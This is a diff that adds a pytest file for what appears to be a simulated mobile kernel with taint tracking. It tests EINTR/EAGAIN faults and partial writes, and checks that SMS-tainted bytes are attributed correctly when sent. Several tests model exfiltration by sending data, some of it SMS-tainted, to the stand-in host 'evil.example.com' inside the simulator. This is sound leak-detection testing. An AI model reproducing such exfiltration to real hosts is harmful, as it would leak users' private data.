@@ -1,0 +1,89 @@
+"""Partial-write and transient-errno semantics at the kernel boundary."""
+
+import pytest
+
+from repro.common.errors import TransientSyscallFault
+from repro.common.taint import TAINT_CLEAR, TAINT_SMS
+from repro.kernel import Kernel
+from repro.kernel.kernel import O_CREAT
+from repro.kernel.syscalls import Errno
+from repro.memory import Memory
+from repro.resilience import FaultPlan
+
+
+@pytest.fixture
+def kernel():
+    k = Kernel(Memory())
+    k.spawn_process("com.example.app")
+    return k
+
+
+def connected_socket(kernel):
+    fd = kernel.sys_socket()
+    kernel.sys_connect(fd, "evil.example.com:80")
+    return fd
+
+
+class TestTransientErrno:
+    def test_eintr_raises_transient_fault(self, kernel):
+        kernel.syscall_fault_hook = \
+            FaultPlan.parse("eintr:send").activate().syscall_fault
+        fd = connected_socket(kernel)
+        with pytest.raises(TransientSyscallFault) as info:
+            kernel.sys_send(fd, b"data")
+        assert info.value.syscall == "send"
+        assert info.value.errno_value == int(Errno.EINTR)
+        # Consumed: the retry goes through and nothing was sent twice.
+        assert kernel.sys_send(fd, b"data") == 4
+        assert len(kernel.network.transmissions_to("evil")) == 1
+
+    def test_eagain_on_write(self, kernel):
+        kernel.syscall_fault_hook = \
+            FaultPlan.parse("eagain:write").activate().syscall_fault
+        fd = kernel.sys_open("/sdcard/f", O_CREAT)
+        with pytest.raises(TransientSyscallFault):
+            kernel.sys_write(fd, b"abc")
+        # The file saw none of the payload.
+        assert kernel.filesystem.lookup("/sdcard/f").size == 0
+
+
+class TestPartialWrites:
+    def test_short_count_truncates_payload(self, kernel):
+        kernel.syscall_fault_hook = \
+            FaultPlan.parse("partial:2:write").activate().syscall_fault
+        fd = kernel.sys_open("/sdcard/f", O_CREAT)
+        assert kernel.sys_write(fd, b"abcdef") == 2
+        assert kernel.filesystem.read_text("/sdcard/f") == "ab"
+
+    def test_short_count_taints_only_emitted_bytes(self, kernel):
+        """The acceptance property: a short sendto must carry exactly the
+        emitted bytes' taints to the sink — no more, no less."""
+        kernel.syscall_fault_hook = \
+            FaultPlan.parse("partial:4:sendto").activate().syscall_fault
+        fd = kernel.sys_socket()
+        taints = [TAINT_CLEAR] * 4 + [TAINT_SMS] * 2
+        kernel.sys_sendto(fd, b"xxxxSS", "evil.example.com:80",
+                          taints=taints)
+        sent = kernel.network.transmissions_to("evil")[0]
+        assert sent.payload == b"xxxx"
+        assert sent.taint_union == TAINT_CLEAR  # SMS bytes never left
+
+    def test_short_count_keeps_emitted_taints(self, kernel):
+        kernel.syscall_fault_hook = \
+            FaultPlan.parse("partial:2:send").activate().syscall_fault
+        fd = connected_socket(kernel)
+        kernel.sys_send(fd, b"SSxx", taints=[TAINT_SMS] * 2
+                        + [TAINT_CLEAR] * 2)
+        sent = kernel.network.transmissions_to("evil")[0]
+        assert sent.payload == b"SS"
+        assert sent.taint_union == TAINT_SMS
+
+    def test_oversized_partial_clamps_to_payload(self, kernel):
+        kernel.syscall_fault_hook = \
+            FaultPlan.parse("partial:99:write").activate().syscall_fault
+        fd = kernel.sys_open("/sdcard/f", O_CREAT)
+        assert kernel.sys_write(fd, b"abc") == 3
+
+    def test_no_hook_means_no_fault(self, kernel):
+        fd = kernel.sys_open("/sdcard/f", O_CREAT)
+        assert kernel.sys_write(fd, b"abcdef") == 6
